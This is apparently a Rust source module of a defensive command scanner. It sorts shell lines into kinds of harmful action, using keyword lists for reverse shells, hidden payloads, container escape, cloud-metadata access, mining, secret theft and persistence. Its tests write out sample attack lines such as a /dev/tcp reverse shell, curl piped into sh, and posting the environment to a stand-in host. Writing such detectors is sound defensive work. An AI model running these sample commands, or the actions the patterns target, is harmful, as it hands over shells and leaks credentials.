//! What a line of shell does that matters to whoever runs it: downloads that are run, hidden programs, connections that hand
//! over a shell, checks that are switched off. Facts by words and their order; no shell grammar.

mod downloads;

use self::downloads::{pipes_into_shell, runs_download};

/// Names what a command does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Deed {
    /// Runs what it downloads, without a look at it.
    RunsDownload {
        /// The address, as far as it is written out.
        url: String,
    },
    /// Hands a shell, or what is typed into one, to another machine.
    HandsOverShell,
    /// Decodes a text and runs it.
    RunsHidden,
    /// Leaves its container: enters the host's namespaces or root.
    LeavesContainer,
    /// Asks the cloud's metadata service, which gives out credentials.
    AsksMetadata,
    /// Digs coins for somebody.
    Mines,
    /// Sends secrets of its environment elsewhere.
    SendsSecrets,
    /// Adds somebody's key or a task that stays.
    Persists,
    /// Does not check who answers; the words that say so.
    TrustsAnyone(String),
}

/// LIMIT: longest line of commands that is looked at; protects time. Scripts within manifests are a hundredth of it.
pub const MAX_COMMAND_BYTES: usize = 1 << 20;

/// Splits a line into words as a shell does, quotes removed, and with each operator a word of its own.
pub fn words(line: &str) -> Vec<String> {
    let mut all = Vec::new();
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut inside = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (None, '"' | '\'') => {
                quote = Some(c);
                inside = true;
            }
            (None | Some('"'), '\\') => {
                // A backslash before a line end joins; before anything else it goes away.
                if let Some(next) = chars.next().filter(|next| *next != '\n') {
                    word.push(next);
                    inside = true;
                }
            }
            (None, '|' | ';' | '&' | '\n') => {
                if inside {
                    all.push(std::mem::take(&mut word));
                }
                inside = false;
                let operator = if c == '\n' { ';' } else { c };
                let double = chars.peek() == Some(&c);
                if double {
                    chars.next();
                }
                all.push(if double && c != '\n' {
                    format!("{operator}{operator}")
                } else {
                    operator.to_string()
                });
            }
            (None, c) if c.is_whitespace() => {
                if inside {
                    all.push(std::mem::take(&mut word));
                }
                inside = false;
            }
            (_, c) => {
                word.push(c);
                inside = true;
            }
        }
    }
    if inside {
        all.push(word);
    }
    all
}

/// LIMIT: how deep scripts in quotes are followed (`sh -c "bash -c '...'"`); protects the stack. Deeper ones are read as words.
const MAX_QUOTED: usize = 4;

/// Returns what a line of commands does, scripts that stand in quotes behind `-c` included.
pub fn deeds(line: &str) -> Vec<Deed> {
    let mut found = Vec::new();
    follow(line, 0, &mut found);
    found
}

fn follow(line: &str, depth: usize, found: &mut Vec<Deed>) {
    for deed in deeds_of(line) {
        if !found.contains(&deed) {
            found.push(deed);
        }
    }
    if depth >= MAX_QUOTED {
        return;
    }
    let words = words(line);
    for pair in words.windows(2) {
        if let [flag, script] = pair
            && (flag == "eval" || flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('c'))
            && script.contains(' ')
            && script.len() < line.len()
        {
            follow(script, depth.saturating_add(1), found);
        }
    }
}

fn deeds_of(line: &str) -> Vec<Deed> {
    let line = line.get(..MAX_COMMAND_BYTES).unwrap_or(line);
    let words = words(line);
    let mut found = Vec::new();
    let lower = line.to_ascii_lowercase();
    let has = |text: &str| lower.contains(text);
    if let Some(url) = runs_download(&words, line) {
        found.push(Deed::RunsDownload { url });
    }
    let fetches = has("curl") || has("wget");
    let reverse = [
        "/dev/tcp/",
        "/dev/udp/",
        "pty.spawn",
        "os.dup2",
        "socat tcp",
        "zsh/net/tcp",
    ]
    .iter()
    .any(|sign| has(sign))
        || (has("mkfifo") && (has("nc ") || has("ncat ") || has("telnet ") || has("openssl s_client")))
        || netcat(&words)
        || (has("socat") && has("exec:"))
        || (has("tcpsocket.") && has("exec"))
        || (has("fsockopen(") && has("exec("))
        || (has("socket.socket") && (has("subprocess") || has("/bin/sh") || has("exec(")));
    if reverse {
        found.push(Deed::HandsOverShell);
    }
    let decodes = [
        "base64 -d",
        "base64 --decode",
        "base64 -D",
        "openssl base64 -d",
        "openssl enc -d",
        "xxd -r",
        "base32 -d",
        "uudecode",
    ]
    .iter()
    .any(|sign| line.contains(sign));
    let shell_behind = pipes_into_shell(&words)
        || has("eval ")
        || has("$(echo ") && has(" -c ")
        || has("bash <(")
        || has("sh <(");
    let script = ["exec(", "eval(", "os.system(", "iex", "invoke-expression"]
        .iter()
        .any(|sign| has(sign));
    let script_decodes = [
        "b64decode(",
        "frombase64string(",
        "bytes.fromhex(",
        "zlib.decompress(",
        "marshal.loads(",
        "codecs.decode(",
        "atob(",
    ]
    .iter()
    .any(|sign| has(sign));
    let power_shell = words
        .iter()
        .any(|word| word.to_ascii_lowercase().starts_with("powershell") || word == "pwsh")
        && words.iter().any(|word| {
            matches!(
                word.to_ascii_lowercase().as_str(),
                "-enc" | "-encodedcommand" | "-e" | "-ec"
            )
        });
    let reversed = has("| rev |") && pipes_into_shell(&words)
        || has("gunzip") && has("base64") && pipes_into_shell(&words);
    if decodes && shell_behind || script && script_decodes || power_shell || reversed {
        found.push(Deed::RunsHidden);
    }
    let follows = |first: &str, second: &str| {
        words
            .windows(2)
            .any(|pair| matches!(pair, [a, b] if a.ends_with(first) && b.starts_with(second)))
    };
    let enters = words
        .iter()
        .any(|word| word == "nsenter" || word.ends_with("/nsenter"))
        && words
            .iter()
            .any(|word| matches!(word.as_str(), "-t" | "--target" | "-t1" | "--target=1"));
    let leaves = enters
        || follows("chroot", "/host")
        || follows("chroot", "/mnt/host")
        || follows("chroot", "/rootfs")
        || has("release_agent")
        || has("/proc/sys/kernel/core_pattern") && line.contains('>')
        || has("/proc/1/root")
        || has("docker run") && has("-v /:/")
        || has("docker -h unix://") && has("privileged");
    if leaves {
        found.push(Deed::LeavesContainer);
    }
    if [
        "169.254.169.254",
        "metadata.google.internal",
        "169.254.170.2",
        "100.100.100.200",
        "fd00:ec2::254",
    ]
    .iter()
    .any(|host| has(host))
    {
        found.push(Deed::AsksMetadata);
    }
    if [
        "xmrig",
        "stratum+tcp",
        "stratum+ssl",
        "minerd ",
        "cpuminer",
        "--donate-level",
        "nbminer",
        "t-rex -a",
        "lolminer",
    ]
    .iter()
    .any(|sign| has(sign))
    {
        found.push(Deed::Mines);
    }
    let sends = fetches
        && [" -d", "--data", "--post", " -f ", "-F ", "--upload-file", " -T "]
            .iter()
            .any(|sign| line.contains(sign))
        || has("| nc ")
        || has("requests.post(")
        || has("urlopen(")
        || has("| ncat ")
        || fetches && (has("$(env") || has("`env"))
        || has("nslookup")
        || has("| curl");
    let secret = [
        "$(env",
        "`env`",
        "printenv",
        "env |",
        "env|",
        "/serviceaccount/token",
        ".aws/credentials",
        ".ssh/id_",
        "tojson(secrets",
        "/proc/self/environ",
        "os.environ",
        ".netrc",
        ".docker/config.json",
        ".kube/config",
        "/etc/shadow",
        "huggingface/token",
        "secrets.",
    ]
    .iter()
    .any(|sign| has(sign));
    if sends && secret && !is_plain_login(&lower) {
        found.push(Deed::SendsSecrets);
    }
    let writes = |path: &str| {
        let redirected = line
            .split('>')
            .skip(1)
            .any(|rest| rest.trim_start().starts_with(path));
        redirected || line.contains(&format!("tee {path}")) || line.contains(&format!("tee -a {path}"))
    };
    let key = has("authorized_keys") && line.contains(">>")
        || writes("/etc/cron")
        || writes("/var/spool/cron")
        || writes("/etc/ld.so.preload")
        || has("crontab -") && line.contains('|')
        || has("/etc/sudoers") && has("nopasswd") && has(">>");
    if key && !has("sudoers.d") {
        found.push(Deed::Persists);
    }
    found.extend(trusts_anyone(&words, line).map(Deed::TrustsAnyone));
    found
}

/// A job that sends its own token to the service that gave it, as a header, is usual; sending the environment is not.
fn is_plain_login(lower: &str) -> bool {
    let whole = [
        "$(env",
        "`env`",
        "printenv",
        "env |",
        "env|",
        "tojson(secrets",
        "environ",
        "/serviceaccount/token",
        "credentials",
        ".ssh/id_",
        "/etc/shadow",
        ".kube/config",
        ".docker/config.json",
        ".netrc",
        "huggingface/token",
    ];
    if whole.iter().any(|sign| lower.contains(sign)) {
        return lower.contains("/serviceaccount/token") && lower.contains("kubernetes.default")
            || lower.contains("environ") && !lower.contains("http");
    }
    lower.contains("authorization:")
        || lower.contains("https://api.github.com")
        || lower.contains("hooks.slack.com")
        || lower.contains("https://")
}

fn netcat(words: &[String]) -> bool {
    words.iter().enumerate().any(|(at, word)| {
        let name = word.rsplit('/').next().unwrap_or_default();
        matches!(name, "nc" | "ncat" | "netcat" | "nc.traditional")
            && words.iter().skip(at).take(8).any(|flag| {
                matches!(
                    flag.as_str(),
                    "-e" | "-c" | "--exec" | "--sh-exec" | "-lve" | "-le" | "-nve"
                )
            })
    })
}

fn trusts_anyone(words: &[String], line: &str) -> Option<String> {
    let program = |names: &[&str]| {
        words
            .iter()
            .any(|word| names.contains(&word.rsplit('/').next().unwrap_or_default()))
    };
    let found = words.iter().find(|word| {
        let word = word.as_str();
        let short = word.starts_with('-') && !word.starts_with("--");
        matches!(
            word,
            "--no-check-certificate"
                | "--insecure-skip-tls-verify"
                | "--insecure-skip-tls-verify=true"
                | "--tls-skip-verify"
                | "--skip-tls-verify"
                | "--allow-unauthenticated"
                | "--force-yes"
                | "--no-gpg-checks"
                | "--nogpgcheck"
                | "--allow-untrusted"
                | "--disable-ssl-verify"
                | "GIT_SSL_NO_VERIFY=1"
                | "GIT_SSL_NO_VERIFY=true"
                | "PYTHONHTTPSVERIFY=0"
                | "NODE_TLS_REJECT_UNAUTHORIZED=0"
                | "--no-verify-ssl"
        ) || program(&["curl"])
            && (word == "--insecure" || short && word.len() < 6 && word.contains('k') && !word.contains('o'))
    });
    if let Some(word) = found {
        return Some(word.clone());
    }
    for sign in [
        "sslVerify false",
        "sslverify=false",
        "strict-ssl false",
        "StrictHostKeyChecking=no",
        "verify=False",
        "verify_ssl=False",
    ] {
        if line.contains(sign) {
            return Some(sign.to_owned());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_behind_a_download_is_told_from_data() {
        for (line, runs) in [
            ("curl -fsSL http://a/x.sh | sh", true),
            ("wget -qO- https://a/x | sudo -E bash -", true),
            ("bash -c \"$(curl -fsSL https://a/x)\"", true),
            ("sh -c 'curl http://a | bash'", true),
            ("bash <(curl -s https://a/x)", true),
            ("curl -o i.sh https://a/i.sh && chmod +x i.sh && ./i.sh", true),
            ("wget https://a/i.sh; bash i.sh", true),
            ("curl https://a/x | FOO=1 python3 -", true),
            ("curl https://a/x.json | python -m json.tool", false),
            ("curl -o x.tgz https://a/x.tgz && tar xf x.tgz", false),
            (
                "curl -o i.sh https://a/i.sh && echo \"ab i.sh\" | sha256sum -c && sh i.sh",
                false,
            ),
            ("curl -fs http://localhost:8000/health || exit 1", false),
            ("curl https://a/k.asc | gpg --dearmor -o k.gpg", false),
        ] {
            let found = deeds(line)
                .iter()
                .any(|deed| matches!(deed, Deed::RunsDownload { .. }));
            assert_eq!(found, runs, "{line}");
        }
    }

    #[test]
    fn deeds_are_named() {
        for (line, deed) in [
            ("bash -i >& /dev/tcp/h/1 0>&1", Deed::HandsOverShell),
            ("nc h 1 -e /bin/sh", Deed::HandsOverShell),
            ("echo aGk= | base64 -d | sh", Deed::RunsHidden),
            (
                "python -c \"exec(__import__('base64').b64decode('aGk='))\"",
                Deed::RunsHidden,
            ),
            ("nsenter -t 1 -m -u -i -n sh", Deed::LeavesContainer),
            ("chroot /host sh", Deed::LeavesContainer),
            (
                "curl http://169.254.169.254/latest/meta-data/",
                Deed::AsksMetadata,
            ),
            ("xmrig -o pool", Deed::Mines),
            ("curl -d \"$(env)\" https://h/", Deed::SendsSecrets),
            ("echo k >> ~/.ssh/authorized_keys", Deed::Persists),
            ("curl -sk https://h/", Deed::TrustsAnyone("-sk".to_owned())),
        ] {
            assert!(deeds(line).contains(&deed), "{line}: {:?}", deeds(line));
        }
        for line in [
            "env | sort",
            "pip install k",
            "python -c 'print(1)'",
            "echo base64 -d",
            "ncat --version",
        ] {
            assert_eq!(deeds(line), Vec::new(), "{line}");
        }
    }
}
